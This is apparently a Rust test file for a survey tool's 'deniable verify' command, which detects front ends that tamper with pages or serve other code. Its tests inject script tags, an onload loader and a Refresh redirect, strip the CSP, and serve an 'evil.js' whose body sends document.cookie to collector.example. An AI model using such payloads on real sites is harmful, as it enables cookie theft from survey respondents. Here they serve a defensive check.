//! `deniable verify` against a real server behind a front end that makes the browser run
//! other code (issue 31, part 4): each attack fails with its reason printed; the untouched
//! server passes, over plain HTTP and over HTTPS with a private authority.

mod front_end;

use serde_json::{json, Value};

use crate::cli::deniable;
use crate::common::spawn_app;
use front_end::{proxy, tls_front_end, Answer, Asked};

/// What the attacker's script would do.
const EVIL: &str = "fetch('https://collector.example/' + document.cookie);\n";

/// The page's own script tag, as this binary renders it.
const FORM_JS: &str = r#"<script src="/static/form.js" defer></script>"#;

/// What `deniable verify` did.
struct Verified {
    passed: bool,
    printed: String,
    error: String,
}

impl Verified {
    /// It failed, and printed a line that says `reason` (a `DIFFERENT` line or the error).
    fn fails_because(&self, reason: &str) {
        assert!(
            !self.passed,
            "verify passed:\n{}{}",
            self.printed, self.error
        );
        let said = self
            .printed
            .lines()
            .filter(|line| line.starts_with("DIFFERENT"))
            .chain(self.error.lines())
            .any(|line| line.contains(reason));
        assert!(
            said,
            "no line says {reason:?}:\n{}{}",
            self.printed, self.error
        );
    }

    fn passes(&self) {
        assert!(
            self.passed,
            "verify failed:\n{}{}",
            self.printed, self.error
        );
    }
}

/// Runs `deniable verify ARGS` and shows its output in the test's log.
async fn verify(args: &[&str]) -> Verified {
    let mut all = vec!["verify".to_owned()];
    all.extend(args.iter().map(|arg| (*arg).to_owned()));
    let output = tokio::task::spawn_blocking(move || {
        let args: Vec<&str> = all.iter().map(String::as_str).collect();
        deniable(&args, "")
    })
    .await
    .unwrap();
    let verified = Verified {
        passed: output.status.success(),
        printed: String::from_utf8(output.stdout).unwrap(),
        error: String::from_utf8(output.stderr).unwrap(),
    };
    println!(
        "deniable verify {}: exit {}\n{}{}",
        args.join(" "),
        output.status.code().unwrap_or(-1),
        verified.printed,
        verified.error
    );
    verified
}

/// The attacker's front end also answers for its own script.
fn serve_evil_js(asked: &Asked, answer: &mut Answer) {
    if asked.path == "/static/evil.js" {
        answer.status = 200;
        answer.headers = vec![("content-type".to_owned(), "text/javascript".to_owned())];
        answer.set_text(EVIL);
    }
}

#[tokio::test]
async fn verify_passes_the_untouched_server_behind_a_front_end_that_changes_nothing() {
    let app = spawn_app().await;
    let front_end = proxy(&app.address, |_, _| {});
    let verified = verify(&[&format!("{front_end}/s/demo")]).await;
    verified.passes();
    for line in [
        "/s/demo as a page (Sec-Fetch-Dest: document)",
        "/s/demo in a frame (Sec-Fetch-Dest: iframe)",
        "/static/form.js",
        "/static/randomized_response.wasm",
        "/static/blind_tokens.wasm",
    ] {
        assert!(
            verified
                .printed
                .lines()
                .any(|printed| printed.starts_with("ok ") && printed.ends_with(line)),
            "{line}: {}",
            verified.printed
        );
    }
    assert!(
        verified
            .printed
            .contains("its headers and all 8 files are this binary's"),
        "{}",
        verified.printed
    );
}

/// Case (a): the page names form.js inside another attribute and loads evil.js.
#[tokio::test]
async fn verify_fails_a_page_that_hides_a_script_address_inside_another_attribute() {
    let app = spawn_app().await;
    let front_end = proxy(&app.address, |asked, answer| {
        if asked.path == "/s/demo" {
            answer.replace(
                FORM_JS,
                r#"<script data-x=" src='/static/form.js'" src="/static/evil.js" defer></script>"#,
            );
        }
        serve_evil_js(asked, answer);
    });
    let verified = verify(&[&format!("{front_end}/s/demo")]).await;
    verified.fails_because(
        "/s/demo as a page (Sec-Fetch-Dest: document): not the page this binary renders from \
         the survey's public definition",
    );
    verified.fails_because(r#"src="/static/evil.js" defer></script>`; this binary renders `<script src="/static/form.js" defer></script>`"#);
}

/// Case (b): an `onload` handler loads evil.js, and without the Content-Security-Policy
/// nothing stops it.
#[tokio::test]
async fn verify_fails_a_page_with_an_onload_handler_and_no_content_security_policy() {
    let app = spawn_app().await;
    let front_end = proxy(&app.address, |asked, answer| {
        if asked.path == "/s/demo" {
            answer.replace(
                "<body>",
                "<body onload=\"document.head.appendChild(document.createElement('script'))\
                 .src='/static/evil.js'\">",
            );
            answer.remove_header("content-security-policy");
        }
        serve_evil_js(asked, answer);
    });
    let verified = verify(&[&format!("{front_end}/s/demo")]).await;
    verified.fails_because(
        "/s/demo as a page (Sec-Fetch-Dest: document): no Content-Security-Policy header; this \
         binary sends `Content-Security-Policy: default-src 'self';",
    );
    verified.fails_because("is `<body onload=");
}

/// Case (c): browsers (and only browsers) get another form.js.
#[tokio::test]
async fn verify_fails_a_front_end_that_serves_other_code_to_browsers_only() {
    let app = spawn_app().await;
    let front_end = proxy(&app.address, |asked, answer| {
        let browser = asked
            .header("user-agent")
            .is_some_and(|agent| agent.starts_with("Mozilla/5.0") && agent.contains("Chrome/"));
        if asked.path == "/static/form.js" && browser {
            answer.set_text(EVIL);
        }
    });
    let verified = verify(&[&format!("{front_end}/s/demo")]).await;
    verified.fails_because("/static/form.js (this binary's copy: ");
    assert!(
        verified.error.contains("1 of 10 checks differ"),
        "{}",
        verified.error
    );
}

/// The page in another site's frame loads evil.js; opened as a page, it is this binary's.
#[tokio::test]
async fn verify_fails_a_front_end_that_serves_other_code_to_frames_only() {
    let app = spawn_app().await;
    let front_end = proxy(&app.address, |asked, answer| {
        if asked.path == "/s/demo" && asked.header("sec-fetch-dest") == Some("iframe") {
            answer.replace(FORM_JS, r#"<script src="/static/evil.js" defer></script>"#);
        }
        serve_evil_js(asked, answer);
    });
    let verified = verify(&[&format!("{front_end}/s/demo")]).await;
    verified.fails_because(
        "/s/demo in a frame (Sec-Fetch-Dest: iframe): not the page this binary renders from the \
         survey's public definition",
    );
    assert!(
        verified.printed.lines().any(|line| line.starts_with("ok ")
            && line.ends_with("/s/demo as a page (Sec-Fetch-Dest: document)")),
        "{}",
        verified.printed
    );
}

#[tokio::test]
async fn verify_fails_a_page_whose_refresh_header_sends_the_browser_elsewhere() {
    let app = spawn_app().await;
    let front_end = proxy(&app.address, |asked, answer| {
        if asked.path == "/s/demo" {
            let elsewhere = ("refresh".to_owned(), "1; url=/static/evil.html".to_owned());
            answer.headers.push(elsewhere);
        }
    });
    let verified = verify(&[&format!("{front_end}/s/demo")]).await;
    verified.fails_because("a Refresh header (`1; url=/static/evil.html`)");
}

/// The definition gives the script a weaker ε than the page shows: the page this binary
/// renders from it is not the one served.
#[tokio::test]
async fn verify_fails_a_definition_whose_epsilon_is_not_the_page_s() {
    let app = spawn_app().await;
    let (_, slug, _) = app.open_survey(&[1.0]).await;
    let definition = format!("/api/surveys/{slug}");
    let front_end = proxy(&app.address, move |asked, answer| {
        if asked.path == definition {
            let mut body: Value = serde_json::from_slice(&answer.body).unwrap();
            let weaker = randomized_response::PrivacyLevel::new(5.0).unwrap();
            body["questions"][0]["epsilon"] = json!(5.0);
            body["questions"][0]["truth_probability"] = json!(weaker.truth_probability());
            body["total_epsilon"] = json!(5.0);
            answer.set_text(&body.to_string());
        }
    });
    let verified = verify(&[&format!("{front_end}/s/{slug}")]).await;
    verified.fails_because("<span id=\"total-epsilon\">1.00</span></strong>");
    verified.fails_because("<span id=\"total-epsilon\">5.00</span></strong>");
}

/// Every question type, a grouping question, the researcher, contact and consent, in
/// German, with invitations (the definition carries the survey's key): the page the server
/// renders is the one this binary renders from the definition.
#[tokio::test]
async fn verify_passes_a_survey_with_every_question_type_and_every_intro_field() {
    let app = spawn_app().await;
    let token = app.researcher_with_token("owner@example.org").await;
    let definition = json!({
        "title": "Prüfungen", "description": "Anonym <b>by design</b> & \"quoted\".",
        "researcher": "Dr. Ada Lovelace", "contact": "https://uni.example/ethik?a=1&b=2",
        "consent": "Freiwillig.\nZweite Zeile.", "language": "de", "min_cell": 7,
        "requires_invitation": true,
        "questions": [
            {"text": "Jahrgang?", "type": "grouping", "options": ["Erstes", "Zweites"]},
            {"text": "Geschummelt?", "epsilon": 1.0986},
            {"text": "Gekauft?", "type": "yes_no", "design": "forced_response",
             "answer_truthfully": 0.67, "forced_yes": 0.165, "forced_no": 0.165},
            {"text": "Kopiert?", "type": "yes_no", "design": "unrelated_question",
             "answer_truthfully": 0.7, "innocuous_yes": 0.3},
            {"text": "Womit?", "type": "choice", "options": ["Nichts", "Zettel", "Handy"],
             "epsilon": 1.5},
            {"text": "Häufig?", "type": "ordinal", "options": ["Nie", "Selten", "Oft"],
             "epsilon": 0.7},
            {"text": "Stunden?", "type": "number", "min": 0.5, "max": 30.25, "epsilon": 0.3}
        ]
    });
    let created = app.create_survey(&token, &definition).await;
    assert_eq!(created.status(), 201);
    let slug = created.json::<Value>().await.unwrap()["slug"]
        .as_str()
        .unwrap()
        .to_owned();
    let opened = app
        .owner_post(&token, &format!("/api/surveys/{slug}/open"))
        .await;
    assert_eq!(opened.status(), 200);
    let public: Value = app
        .client
        .get(app.url(&format!("/api/surveys/{slug}")))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(
        public["invitation_key"]["fingerprint"].is_string(),
        "{public}"
    );
    verify(&[&app.address, "--survey", &slug]).await.passes();
}

/// The served page over HTTPS, its certificate signed by an authority made for the test:
/// checked with `--ca-file`, refused without it.
#[tokio::test]
async fn verify_checks_an_https_survey_with_its_authority_and_refuses_it_without() {
    let app = spawn_app().await;
    let tls = tls_front_end(&app.address).await;
    let directory = tempfile::tempdir().unwrap();
    let authority = directory.path().join("authority.pem");
    std::fs::write(&authority, &tls.authority_pem).unwrap();
    let link = format!("{}/s/demo", tls.address);

    let verified = verify(&[&link, "--ca-file", authority.to_str().unwrap()]).await;
    verified.passes();
    assert!(
        verified
            .printed
            .contains(&format!("Checking what {link} serves")),
        "{}",
        verified.printed
    );

    let refused = verify(&[&link]).await;
    refused.fails_because("the TLS certificate of 127.0.0.1 is not one this check trusts");
    refused.fails_because("UnknownIssuer");
    refused.fails_because("give that authority's certificate with --ca-file PATH");
}

/// An open survey that `https://host.example.org` may frame; its slug.
async fn embeddable_survey(app: &crate::common::TestApp) -> String {
    let token = app.researcher_with_token("owner@example.org").await;
    let definition = json!({"title": "Embedded", "embed_origins": ["https://host.example.org"],
                            "questions": [{"text": "Have you?", "epsilon": 1.0}]});
    app.open_definition(&token, &definition).await
}

/// A survey that may be framed has its own frame policy, which `verify` requires as a page
/// and in a frame: a front end that lets every site frame it, in frames only, fails.
#[tokio::test]
async fn verify_requires_an_embeddable_survey_s_own_frame_policy_as_a_page_and_in_a_frame() {
    let app = spawn_app().await;
    let slug = embeddable_survey(&app).await;
    let verified = verify(&[&app.address, "--survey", &slug]).await;
    verified.passes();
    assert!(
        verified
            .printed
            .lines()
            .any(|line| line.starts_with("ok ")
                && line.ends_with("in a frame (Sec-Fetch-Dest: iframe)")),
        "{}",
        verified.printed
    );

    let page = format!("/s/{slug}");
    let front_end = proxy(&app.address, move |asked, answer| {
        if asked.path == page && asked.header("sec-fetch-dest") == Some("iframe") {
            let policy = answer
                .headers
                .iter_mut()
                .find(|(name, _)| name == "content-security-policy")
                .unwrap();
            policy.1 = policy.1.replace(
                "frame-ancestors https://host.example.org",
                "frame-ancestors *",
            );
        }
    });
    let verified = verify(&[&format!("{front_end}/s/{slug}")]).await;
    verified.fails_because("Content-Security-Policy is `");
    verified.fails_because("frame-ancestors *`; this binary sends `");
}

/// A definition that widens its own embed origins to every site is not one this binary
/// renders a page for, whatever headers come with it.
#[tokio::test]
async fn verify_refuses_a_definition_whose_embed_origins_are_a_wildcard() {
    let app = spawn_app().await;
    let slug = embeddable_survey(&app).await;
    let definition = format!("/api/surveys/{slug}");
    let front_end = proxy(&app.address, move |asked, answer| {
        if asked.path == definition {
            let mut body: Value = serde_json::from_slice(&answer.body).unwrap();
            body["embed_origins"] = json!(["*"]);
            answer.set_text(&body.to_string());
        }
    });
    let verified = verify(&[&format!("{front_end}/s/{slug}")]).await;
    verified.fails_because("wildcard");
}
